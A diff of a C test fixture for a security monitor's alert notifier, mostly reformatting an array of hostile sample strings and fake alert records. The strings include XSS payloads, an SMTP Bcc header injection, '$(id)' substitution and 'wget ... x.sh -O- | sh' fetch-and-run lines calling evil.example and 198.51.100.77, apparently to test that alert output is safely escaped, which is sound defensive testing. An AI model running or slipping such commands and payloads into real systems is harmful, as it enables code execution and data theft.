@@ -1,5 +1,5 @@
 /* SPDX-License-Identifier: BSD-2-Clause */
-#include "test/world.h"
+#include "notify/test/world.h"
 
 #include <string.h>
 
@@ -7,24 +7,33 @@ static const char *const hostile[] = {
 	"<script>top.pwned=1;alert(1)</script><img src=x onerror=top.pwned=1>",
 	"\"><svg onload=top.pwned=1><a href=\"http://evil.example/\">click</a>",
 	"x\r\nBcc: victim@evil.example\r\nSubject: forged\r\n\r\nbody\r\n.\r\nMAIL FROM:<a@b.c>",
-	"wget http://evil.example/x.sh -O- | sh; curl HTTPS://evil.example:8443/a?b=c; ftp://evil.example/",
+	"wget http://evil.example/x.sh -O- | sh; curl HTTPS://evil.example:8443/a?b=c; "
+	"ftp://evil.example/",
 	"\x1b]0;title\x07\x1b[2J\x1b[31mred\x08\x7f\x9b\xff\xfe\xc0\xaf\xed\xa0\x80",
-	"\xe2\x80\xae" "gpj.exe\xe2\x80\xac \xe2\x80\x8b\xe2\x81\xa6invisible\xef\xbb\xbf",
+	"\xe2\x80\xae"
+	"gpj.exe\xe2\x80\xac \xe2\x80\x8b\xe2\x81\xa6invisible\xef\xbb\xbf",
 	"\xd0\xb0pple.com g\xd0\xbe\xd0\xbegle.com xn--pple-43d.com 1\xe2\x9f\x8b.2",
 	"@everyone @here <!channel> <@U12345> <@&999> <#C12345|x> <https://evil.example|safe>",
-	"[click](http://evil.example) **bold** ||spoiler|| `code` ~~x~~ ```\n> quote\n# head\n- list",
+	"[click](http://evil.example) **bold** ||spoiler|| `code` ~~x~~ ```\n> quote\n# head\n- "
+	"list",
 	"=?UTF-8?B?PHNjcmlwdD4=?= =?utf-8?q?forged?= \"quoted\" <a@b.c>, (comment)",
 	"\",\"priority\":5,\"topic\":\"other\"}{{lead}}{{text}}\\\",\\u0022",
 	"<165>1 2003-10-11T22:14:15Z host app - - [skep@32473 class=\"x\"] x\"]\\] forged",
-	"javascript:alert(1) mailto:a@evil.example tel:+4912345 data:text/html;base64,PHA+ www.evil.example",
+	"javascript:alert(1) mailto:a@evil.example tel:+4912345 data:text/html;base64,PHA+ "
+	"www.evil.example",
 	"--=_skep_7_=\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--=_skep_7_=--\r\nFrom me",
-	"<style>@import 'http://evil.example/a.css';body{background:url(http://evil.example/b)}</style>",
-	"<base href=http://evil.example/><meta http-equiv=refresh content=0;url=http://evil.example/>"
+	"<style>@import "
+	"'http://evil.example/a.css';body{background:url(http://evil.example/b)}</style>",
+	"<base href=http://evil.example/><meta http-equiv=refresh "
+	"content=0;url=http://evil.example/>"
 	"<form action=http://evil.example/><input name=a></form>",
 	"&lt;script&gt; &#60;b&#62; &amp; \\x3cscript\\x3e %0d%0aBcc:%20x ${IFS} $(id) `id` ;|&",
-	"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
-	"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
-	"\xf0\x9f\x98\x80\xf3\xa0\x80\x81\xcc\x81\xcc\x82\xcc\x83 e\xcc\x81 \xe0\xb8\x81\xe0\xb9\x87\xe0\xb9\x87",
+	"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+	"AAAA"
+	"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+	"AA",
+	"\xf0\x9f\x98\x80\xf3\xa0\x80\x81\xcc\x81\xcc\x82\xcc\x83 e\xcc\x81 "
+	"\xe0\xb8\x81\xe0\xb9\x87\xe0\xb9\x87",
 };
 
 static const struct honest {
@@ -33,28 +42,30 @@ static const struct honest {
 	uint16_t port;
 	const char *source, *guest, *what, *text;
 } honest[] = {
-	{"outbound", ALERT_FIRST, ALERT_OUTBOUND, 7, EVENT_CONNECTION, DIR_OUTBOUND, VERDICT_REDIRECT, 6, 80,
-	 "198.51.100.77", "web1", "", "web1 -> 198.51.100.77:80 TCP, the 1st of 10 this hour"},
-	{"login", ALERT_MORE, ALERT_LOGIN, 6, EVENT_LOGIN, DIR_INBOUND, VERDICT_FORWARD, 6, 22, "203.0.113.5", "web1",
-	 "root", "root logged in by password over ssh"},
-	{"escape", ALERT_FIRST, ALERT_ESCAPE, 9, EVENT_ESCAPE, DIR_NONE, 0, 0, 0, NULL, "web1", "filter",
-	 "the QEMU of web1 made a call that it may not (ptrace) and was ended"},
-	{"silence", ALERT_FIRST, ALERT_SILENCE, 8, EVENT_SILENCE, DIR_NONE, 0, 0, 0, NULL, "web1", "monitor",
-	 "the monitor in web1 has said nothing for 15 s"},
-	{"limit", ALERT_FIRST, ALERT_LIMIT, 5, EVENT_LIMIT, DIR_OUTBOUND, VERDICT_LIMIT, 6, 443, "198.51.100.77",
-	 "web1", "tcp", "web1 used up its 10 TCP conversations of this hour"},
-	{"rule", ALERT_FIRST, ALERT_RULE_HIGH, 5, EVENT_ALERT, DIR_INBOUND, VERDICT_FORWARD, 6, 80, "2001:db8:66::5",
-	 "web1", "SKEP shell in a request's header", "SKEP shell in a request's header"},
-	{"inbound", ALERT_FIRST, ALERT_INBOUND, 2, EVENT_CONNECTION, DIR_INBOUND, VERDICT_FORWARD, 6, 22,
-	 "2001:db8:66::5", "web1", "", "2001:db8:66::5 -> web1 port 22"},
+	{"outbound", ALERT_FIRST, ALERT_OUTBOUND, 7, EVENT_CONNECTION, DIR_OUTBOUND,
+	 VERDICT_REDIRECT, 6, 80, "198.51.100.77", "web1", "",
+	 "web1 -> 198.51.100.77:80 TCP, the 1st of 10 this hour"},
+	{"login", ALERT_MORE, ALERT_LOGIN, 6, EVENT_LOGIN, DIR_INBOUND, VERDICT_FORWARD, 6, 22,
+	 "203.0.113.5", "web1", "root", "root logged in by password over ssh"},
+	{"escape", ALERT_FIRST, ALERT_ESCAPE, 9, EVENT_ESCAPE, DIR_NONE, 0, 0, 0, NULL, "web1",
+	 "filter", "the QEMU of web1 made a call that it may not (ptrace) and was ended"},
+	{"silence", ALERT_FIRST, ALERT_SILENCE, 8, EVENT_SILENCE, DIR_NONE, 0, 0, 0, NULL, "web1",
+	 "monitor", "the monitor in web1 has said nothing for 15 s"},
+	{"limit", ALERT_FIRST, ALERT_LIMIT, 5, EVENT_LIMIT, DIR_OUTBOUND, VERDICT_LIMIT, 6, 443,
+	 "198.51.100.77", "web1", "tcp", "web1 used up its 10 TCP conversations of this hour"},
+	{"rule", ALERT_FIRST, ALERT_RULE_HIGH, 5, EVENT_ALERT, DIR_INBOUND, VERDICT_FORWARD, 6, 80,
+	 "2001:db8:66::5", "web1", "SKEP shell in a request's header",
+	 "SKEP shell in a request's header"},
+	{"inbound", ALERT_FIRST, ALERT_INBOUND, 2, EVENT_CONNECTION, DIR_INBOUND, VERDICT_FORWARD,
+	 6, 22, "2001:db8:66::5", "web1", "", "2001:db8:66::5 -> web1 port 22"},
 	{"health", ALERT_FIRST, ALERT_HEALTH, 4, EVENT_HEALTH, DIR_NONE, 0, 0, 0, NULL, "", "disk",
 	 "the disk of the captures has 2 % left"},
-	{"incident", ALERT_INCIDENT_END, ALERT_OUTBOUND, 7, EVENT_INCIDENT, DIR_NONE, 0, 0, 0, "203.0.113.5", "web1",
-	 "", "incident with 203.0.113.5 became quiet"},
-	{"day", ALERT_DAY_END, ALERT_LOGIN, 6, EVENT_LOGIN, DIR_INBOUND, VERDICT_FORWARD, 6, 22, "203.0.113.5", "web1",
-	 "root", "root logged in by password over ssh"},
-	{"budget", ALERT_FIRST, ALERT_LOGIN, 6, EVENT_LOGIN, DIR_INBOUND, VERDICT_FORWARD, 6, 22, "203.0.113.5",
-	 "web1", "admin", "admin logged in by password over ssh"},
+	{"incident", ALERT_INCIDENT_END, ALERT_OUTBOUND, 7, EVENT_INCIDENT, DIR_NONE, 0, 0, 0,
+	 "203.0.113.5", "web1", "", "incident with 203.0.113.5 became quiet"},
+	{"day", ALERT_DAY_END, ALERT_LOGIN, 6, EVENT_LOGIN, DIR_INBOUND, VERDICT_FORWARD, 6, 22,
+	 "203.0.113.5", "web1", "root", "root logged in by password over ssh"},
+	{"budget", ALERT_FIRST, ALERT_LOGIN, 6, EVENT_LOGIN, DIR_INBOUND, VERDICT_FORWARD, 6, 22,
+	 "203.0.113.5", "web1", "admin", "admin logged in by password over ssh"},
 	{"test", ALERT_TEST, ALERT_HEALTH, 4, EVENT_HEALTH, DIR_NONE, 0, 0, 0, NULL, "", "", ""},
 };
 
@@ -91,10 +102,15 @@ static void history(struct alert_message *m)
 	m->seen_ns = WORLD_NOW_NS - 3 * INT64_C(86400) * NS_PER_SEC;
 	m->seen_times = 14;
 	m->n_counts = 2;
-	m->counts[0] = (struct alert_count){.class = ALERT_LOGIN, .why = ALERT_WINDOW, .n = 411,
+	m->counts[0] = (struct alert_count){.class = ALERT_LOGIN,
+					    .why = ALERT_WINDOW,
+					    .n = 411,
 					    .first_ns = WORLD_NOW_NS - 1700 * NS_PER_SEC,
 					    .last_ns = WORLD_NOW_NS - 20 * NS_PER_SEC};
-	m->counts[1] = (struct alert_count){.class = ALERT_INBOUND, .why = ALERT_QUIET, .quiet = 1, .n = 3,
+	m->counts[1] = (struct alert_count){.class = ALERT_INBOUND,
+					    .why = ALERT_QUIET,
+					    .quiet = 1,
+					    .n = 3,
 					    .first_ns = WORLD_NOW_NS - 900 * NS_PER_SEC,
 					    .last_ns = WORLD_NOW_NS - 900 * NS_PER_SEC};
 }
@@ -139,8 +155,9 @@ static void make_honest(const struct honest *h, struct sample *s)
 		place(s);
 	}
 	if (h->class == ALERT_OUTBOUND || h->class == ALERT_LOGIN) {
-		static const char *const lines[] = {"uname -a", "cd /tmp; wget http://198.51.100.77/x.sh -O- | sh",
-						    "cat /proc/cpuinfo | grep -c processor"};
+		static const char *const lines[] = {
+			"uname -a", "cd /tmp; wget http://198.51.100.77/x.sh -O- | sh",
+			"cat /proc/cpuinfo | grep -c processor"};
 		for (m->n_commands = 0; m->n_commands < ARRAY_LEN(lines); m->n_commands++)
 			text_copy(m->commands[m->n_commands], ALERT_COMMAND, lines[m->n_commands]);
 	}
@@ -185,7 +202,8 @@ static void make_hostile(size_t i, struct sample *s)
 	text_copy(s->facts.as_name, sizeof(s->facts.as_name), text);
 	text_copy(s->facts.name, sizeof(s->facts.name), text);
 	for (m->n_commands = 0; m->n_commands < ALERT_COMMANDS; m->n_commands++)
-		text_copy(m->commands[m->n_commands], ALERT_COMMAND, hostile[(i + m->n_commands) % ARRAY_LEN(hostile)]);
+		text_copy(m->commands[m->n_commands], ALERT_COMMAND,
+			  hostile[(i + m->n_commands) % ARRAY_LEN(hostile)]);
 }
 
 void world_sample(size_t i, struct sample *ret)
@@ -217,8 +235,11 @@ void world_conf(bool brief, size_t kind, struct conf_alerts *ret)
 
 void world_beat(struct notify_beat *ret)
 {
-	*ret = (struct notify_beat){.n = 12, .at_ns = WORLD_NOW_NS, .every_ns = 60 * NS_PER_SEC,
-				    .since_ns = WORLD_NOW_NS - 7200 * NS_PER_SEC, .waiting = 1,
+	*ret = (struct notify_beat){.n = 12,
+				    .at_ns = WORLD_NOW_NS,
+				    .every_ns = 60 * NS_PER_SEC,
+				    .since_ns = WORLD_NOW_NS - 7200 * NS_PER_SEC,
+				    .waiting = 1,
 				    .last_event = 1795878245123455};
 	text_copy(ret->why, sizeof(ret->why), "beat");
 	for (size_t i = 0; i < ARRAY_LEN(ret->seals); i++) {
